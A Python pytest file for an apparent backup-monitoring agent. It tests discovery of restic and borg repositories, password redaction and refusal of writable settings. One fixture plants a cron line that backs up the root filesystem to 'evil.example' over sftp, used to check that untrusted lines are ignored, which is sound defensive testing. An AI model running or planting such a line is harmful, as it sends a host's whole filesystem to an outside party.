"""Backups: repositories told of and found, read with the real programs where they are installed."""

# ruff: noqa: E501 - recorded outputs and tables of cases keep their lines
from __future__ import annotations

import json
import os
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from forestall.agent.collect import backups
from forestall.agent.collect.backup_settings import SettingsError, agent_home, load_settings, parse_settings
from forestall.agent.collect.backups import borg, finding, restic
from forestall.agent.collect.backups.adapter import Candidate
from forestall.agent.collect.backups.common import why_unreadable
from forestall.agent.collect.backups.memory import Remembered
from forestall.agent.collect.host import CommandResult, LocalHost
from forestall.agent.collect.notes import Notes
from forestall.agent.collect.tests.recorded_host import RecordedHost

RUNS = Path(__file__).parents[6] / "shared/data/backup/runs"
HOME = {"FORESTALL_AGENT_HOME": "/agent"}
SETTINGS = """\
[[backup]]
name = "nightly"
tool = "restic"
repository = "/srv/backup/nightly"
password_file = "/etc/forestall/nightly.password"
rerun = ["/usr/local/sbin/backup-nightly"]
environment = { AWS_PROFILE = "backup" }
"""
SNAPSHOTS = '[{"time":"2026-11-22T02:00:05.141475463Z","id":"a"},{"time":"2026-11-23T03:00:05.5+01:00","id":"b"}]'
RESTIC = {f"/srv/backup/nightly/{name}": "" for name in ("config", "data/00", "index/i", "keys/k")} | {
    "/srv/backup/nightly/snapshots/a": "",
    "/srv/backup/nightly/snapshots/b": "",
}


def test_a_backup_told_of_is_read_with_its_password():
    runs = {"nightly": {"at": "2026-11-23T04:00:00Z", "ok": False, "detail": "exit code 3"}}
    files = {"/agent/backups.toml": SETTINGS, "/agent/backup-runs.json": json.dumps(runs), **RESTIC}
    host = RecordedHost(files=files, environment=HOME, outputs={"restic --repo": SNAPSHOTS})
    (found,) = backups.collect(host).repositories
    assert (found.name, found.tool, found.location, found.snapshots, found.rerun) == (
        "nightly",
        "restic",
        "/srv/backup/nightly",
        2,
        True,
    )
    assert found.last_success_at == datetime(2026, 11, 23, 2, 0, 5, 500000, tzinfo=UTC)
    assert (found.last_run_ok, found.last_run_detail, found.unknown_why) == (False, "exit code 3", "")
    (argv, environment) = host.ran[-1]
    assert {"--no-lock", "--no-cache", "--json"} <= set(argv)
    assert environment == {"AWS_PROFILE": "backup", "RESTIC_PASSWORD_FILE": "/etc/forestall/nightly.password"}


@pytest.mark.parametrize(
    ("denied", "what"),
    [
        (["/root"], "repositories in /root"),
        (["/root", "/srv/b"], "repositories in 2 folders, /root first"),
    ],
)
def test_folders_that_could_not_be_looked_into_are_counted(denied, what):
    host = RecordedHost(files={"/srv/a/x": ""}, denied=denied, is_root=False)
    gaps = [(gap.what, gap.why) for gap in backups.collect(host).gaps]
    assert (what, "needs root") in gaps


def test_a_repository_nobody_told_of_is_found_and_its_files_tell_a_little():
    at = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
    files = {**RESTIC, "/srv/backup/nightly/snapshots/a": ""}
    host = RecordedHost(files=files, programs=["restic"], changed={"/srv/backup/nightly/snapshots/b": at})
    document = backups.collect(host)
    (found,) = document.repositories
    assert (found.name, found.snapshots, found.last_success_at) == ("nightly", 2, at)
    assert found.unknown_why == "password needed; the time is that of its newest snapshot file"
    assert [(gap.what, gap.why) for gap in document.gaps] == [("backup nightly", found.unknown_why)]


def test_a_repository_of_another_user_is_not_opened_with_roots_rights():
    files = {
        "/home/eve/b/README": "This is a Borg Backup repository.\n",
        "/home/eve/b/config": "",
        "/home/eve/b/data/0": "",
        "/etc/passwd": "eve:x:1005:1005::/home/eve:/bin/sh\n",
    }
    host = RecordedHost(files=files, programs=["borg"], owners={"/home/eve/b": 1005})
    (found,) = backups.collect(host).repositories
    assert found.unknown_why == "belongs to eve: not opened with root's rights"
    assert host.ran == []


def test_lines_that_others_could_have_written_are_not_followed():
    files = {"/etc/cron.d/evil": "0 1 * * * root restic -r sftp:evil.example:/x backup /\n"}
    for more in ({"modes": {"/etc/cron.d/evil": 0o666}}, {"owners": {"/etc/cron.d/evil": 1000}}):
        assert backups.collect(RecordedHost(files=files, programs=["restic"], **more)).repositories == ()
    (found,) = backups.collect(RecordedHost(files=files, programs=["restic"])).repositories
    assert (found.location, found.unknown_why) == ("sftp:evil.example:/x", "password needed")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("0 2 * * * root restic -r /srv/r --password-file /root/pw backup /home\n", [("restic", "/srv/r", "/root/pw")]),
        ("ExecStart=/usr/bin/restic --repo=/srv/r backup \\\n  /etc\n", [("restic", "/srv/r", "")]),
        ("export RESTIC_REPOSITORY='s3:s3.example.org/b'\nexport RESTIC_PASSWORD_FILE=/root/pw\nrestic backup /\n", [("restic", "s3:s3.example.org/b", "/root/pw")]),
        ("@daily root borg create --stats /srv/borg::{hostname}-{now} /home\n", [("borg", "/srv/borg", "")]),
        ('Environment="BORG_REPO=ssh://b@backup.example/./r"\n', [("borg", "ssh://b@backup.example/./r", "")]),
        ("# restic -r /srv/old backup /\nrestic -r $REPO backup /\necho restic\n", []),
    ],
)  # fmt: skip
def test_repositories_are_read_out_of_scripts_units_and_tables(text, expected):
    assert [(each.tool, each.location, each.password_file) for each in finding.find_in_text(text)] == expected


def test_borgmatic_and_resticprofile_are_understood():
    new = "source_directories:\n    - /home\nrepositories:\n    - path: ssh://u@h/./a\n      label: x\n    - path: /srv/b\nencryption_passcommand: cat /root/pw\n"
    old = "location:\n    source_directories:\n        - /home\n    repositories:\n        - /srv/c\n        - user@host:repo\nretention:\n    keep_daily: 7\n"
    assert [(each.location, each.password_file) for each in finding.find_in_borgmatic(new)] == [
        ("ssh://u@h/./a", "/root/pw"),
        ("/srv/b", "/root/pw"),
    ]
    assert [each.location for each in finding.find_in_borgmatic(old)] == ["/srv/c", "user@host:repo"]
    toml = '[default]\nrepository = "local:/backup"\npassword-file = "password.txt"\n[default.backup]\nsource = ["/"]\n'
    (found,) = finding.find_in_resticprofile(toml, "/etc/resticprofile")
    assert (found.path, found.password_file) == ("/backup", "/etc/resticprofile/password.txt")


def test_one_repository_named_twice_is_one_and_names_stay_unique():
    found = finding.unique(
        [
            Candidate("restic", "/srv/r/", name="nightly", told=True),
            Candidate("restic", "local:/srv/r", password_file="/root/pw"),
            Candidate("borg", "/mnt/nightly"),
        ]
    )
    assert [(each.name, each.password_file) for each in found] == [("nightly", "/root/pw"), ("nightly-2", "")]


def test_an_address_is_told_without_its_password():
    files = {"/etc/restic/env": "RESTIC_REPOSITORY=rest:https://u:hunter2@h.example/r\nRESTIC_PASSWORD=hunter3\n"}
    host = RecordedHost(files=files, outputs={"restic --repo": "null\n"})
    document = backups.collect(host)
    assert "hunter" not in repr(document)
    assert document.repositories[0].location == "rest:https://u:[hidden]@h.example/r"
    assert document.repositories[0].snapshots == 0
    assert host.ran[-1][1]["RESTIC_PASSWORD"] == "hunter3"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[[backup]]\nname = 'a'\ntool = 'tape'\nrepository = '/r'\n", r"\$\.backup\[0\]\.tool"),
        ("[[backup]]\nname = 'a'\ntool = 'borg'\n", "repository"),
        ("[[backup]]\nname = ''\ntool = 'borg'\nrepository = '/r'\n", "must not be empty"),
        ("[[backup]]\nname = 'a'\ntool = 'borg'\nrepository = '/r'\nsecret = 'x'\n", "secret"),
        ("[[backup]]\nname='a'\ntool='borg'\nrepository='/r'\n[[backup]]\nname='a'\ntool='borg'\nrepository='/s'\n", "'a' is there twice"),
        ("[[backup\n", "backups.toml"),
    ],
)  # fmt: skip
def test_wrong_settings_are_refused_by_the_bad_value(text, words):
    with pytest.raises(SettingsError, match=words):
        parse_settings(text, "/agent/backups.toml")


def test_wrong_settings_are_a_gap_and_others_are_still_found():
    host = RecordedHost(
        files={"/agent/backups.toml": "[[backup]]\nname = 1\n", **RESTIC}, environment=HOME, programs=["restic"]
    )
    document = backups.collect(host)
    assert [each.name for each in document.repositories] == ["nightly"]
    assert "backups.toml" in next(gap.why for gap in document.gaps if gap.what == "backup settings")


def test_settings_that_others_may_write_are_refused():
    host = RecordedHost(files={"/agent/backups.toml": SETTINGS}, environment=HOME, modes={"/agent/backups.toml": 0o664})
    with pytest.raises(SettingsError, match="may be written by others"):
        load_settings(host)


def test_the_agents_folder_follows_the_environment():
    assert agent_home(RecordedHost(environment=HOME)) == "/agent"
    assert agent_home(RecordedHost(environment={"FORESTALL_HOME": "/data"})) == "/data/agent"
    assert agent_home(RecordedHost(environment={"HOME": "/home/a"})) == "/home/a/.local/share/forestall/agent"


@pytest.mark.skipif(not RUNS.is_dir(), reason="the recorded runs are not here")
def test_recorded_outputs_are_understood():
    kept = restic.parse_snapshots((RUNS / "restic_snapshots.out").read_text()).history
    assert (len(kept), kept[0].at) == (3, datetime(2026, 11, 23, 17, 18, 33, 743114, tzinfo=UTC))
    kept = borg.parse_list((RUNS / "borg_list.out").read_text())
    assert (len(kept), kept[0].at) == (3, datetime(2026, 11, 23, 17, 20, 18, tzinfo=UTC))
    for name, why in {
        "restic_wrong_password": "the password is wrong",
        "borg_wrong_passphrase": "the password is wrong",
        "borg_no_repo": "no repository there",
    }.items():
        result = CommandResult("", (RUNS / f"{name}.err").read_text(), 1)
        assert why_unreadable(result) == why


def run(*argv, **environment):
    subprocess.run(argv, check=True, capture_output=True, env={**os.environ, **environment})


def tell(monkeypatch, folder, text):
    home = folder / "agent"
    home.mkdir()
    monkeypatch.setenv("FORESTALL_AGENT_HOME", str(home))
    (home / "backups.toml").write_text(text)
    (home / "backups.toml").chmod(0o600)


def only(document, name):
    return next(each for each in document.repositories if each.name == name)


@pytest.mark.skipif(shutil.which("restic") is None, reason="restic is not installed")
def test_a_real_restic_repository(tmp_path, monkeypatch):
    repository, password = tmp_path / "repo", tmp_path / "password"
    password.write_text("correct horse")
    settings = (
        f'[[backup]]\nname = "real"\ntool = "restic"\nrepository = "{repository}"\npassword_file = "{password}"\n'
    )
    tell(monkeypatch, tmp_path, settings)
    assert only(backups.collect(LocalHost()), "real").unknown_why == "no repository there"

    secret = {"RESTIC_PASSWORD_FILE": str(password)}
    run("restic", "--no-cache", "-r", str(repository), "init", **secret)
    empty = only(backups.collect(LocalHost()), "real")
    assert (empty.snapshots, empty.last_success_at, empty.unknown_why) == (0, None, "")

    for _ in range(2):
        run("restic", "--no-cache", "-r", str(repository), "backup", str(password), **secret)
    before = sorted(str(path) for path in repository.rglob("*"))
    found = only(backups.collect(LocalHost()), "real")
    assert (found.snapshots, found.unknown_why) == (2, "")
    assert abs(datetime.now(UTC) - found.last_success_at) < timedelta(minutes=2)
    assert sorted(str(path) for path in repository.rglob("*")) == before, "reading leaves no trace"

    password.write_text("wrong")
    assert only(backups.collect(LocalHost()), "real").unknown_why == "the password is wrong"


@pytest.mark.skipif(shutil.which("borg") is None, reason="borg is not installed")
def test_a_real_borg_repository(tmp_path, monkeypatch):
    repository, password = tmp_path / "repo", tmp_path / "pass word"
    password.write_text("correct horse")
    monkeypatch.setenv("HOME", str(tmp_path))
    settings = f'[[backup]]\nname = "real"\ntool = "borg"\nrepository = "{repository}"\npassword_file = "{password}"\n'
    tell(monkeypatch, tmp_path, settings)

    secret = {"BORG_PASSPHRASE": "correct horse", "BORG_BASE_DIR": str(tmp_path / "borg-base")}
    run("borg", "init", "--encryption=repokey", str(repository), **secret)
    run("borg", "create", f"{repository}::one", str(password), **secret)
    found = only(backups.collect(LocalHost()), "real")
    assert (found.snapshots, found.unknown_why) == (1, "")
    assert abs(datetime.now(UTC) - found.last_success_at) < timedelta(minutes=2)

    password.write_text("wrong")
    assert only(backups.collect(LocalHost()), "real").unknown_why == "the password is wrong"
    tool_only = Candidate("borg", str(repository), name="bare")
    assert borg.read(Notes(LocalHost()), tool_only, Remembered())[0].unknown_why == "password needed"


def own_backup(status, **recorded):
    files = {"/data/server/backup-status.json": status}
    host = RecordedHost(files=files, environment={"FORESTALL_HOME": "/data"}, **recorded)
    return backups.collect(host)


def test_on_the_servers_machine_forestalls_own_backup_is_told_of():
    status = {
        "folder": "/mnt/nas/forestall",
        "first_due_at": "2026-11-01T12:10:00Z",
        "last_run_at": "2026-11-23T01:30:00Z",
        "last_run_ok": False,
        "last_run_detail": "/mnt/nas/forestall is not a folder; is its volume mounted?",
        "last_success_at": "2026-11-22T01:30:00Z",
        "kept": 9,
        "verified_at": "2026-11-22T01:31:00Z",
        "verified_ok": True,
        "verified_detail": "9 rows are equal",
        "a_later_version_says": "more",
    }
    document = own_backup(json.dumps(status))
    (own,) = document.jobs
    assert (own.name, own.tool, own.location, own.snapshots) == ("forestall", "forestall", "/mnt/nas/forestall", 9)
    assert own.last_success_at == datetime(2026, 11, 22, 1, 30, tzinfo=UTC)
    assert (own.last_run_ok, own.restored_ok, own.restored_at.minute) == (False, True, 31)
    assert "mounted?" in own.last_run_detail
    assert "/data/server/backup-status.json" in document.sources


def test_no_server_a_schedule_that_is_off_and_a_status_that_cannot_be_read():
    assert backups.collect(RecordedHost(environment={"FORESTALL_HOME": "/data"})).jobs == ()
    assert own_backup('{"scheduled": false, "folder": "/b"}').jobs == ()
    document = own_backup('{"last_run_at": "yesterday"}')
    assert "cannot be read" in document.jobs[0].unknown_why
    assert document.gaps[-1].what == "Forestall's own backup"
    denied = own_backup("{}", denied=["/data/server"], is_root=False)
    assert denied.jobs[0].unknown_why == "needs root"


def test_a_restore_test_of_ones_own_is_told_of():
    run = {"at": "2026-11-23T04:00:00Z", "ok": True, "restored_at": "2026-11-01T04:00:00Z", "restored_ok": True}
    files = {"/agent/backups.toml": SETTINGS, "/agent/backup-runs.json": json.dumps({"nightly": run}), **RESTIC}
    host = RecordedHost(files=files, environment=HOME, outputs={"restic --repo": SNAPSHOTS})
    (found,) = backups.collect(host).repositories
    assert (found.restored_ok, found.restored_at) == (True, datetime(2026, 11, 1, 4, tzinfo=UTC))
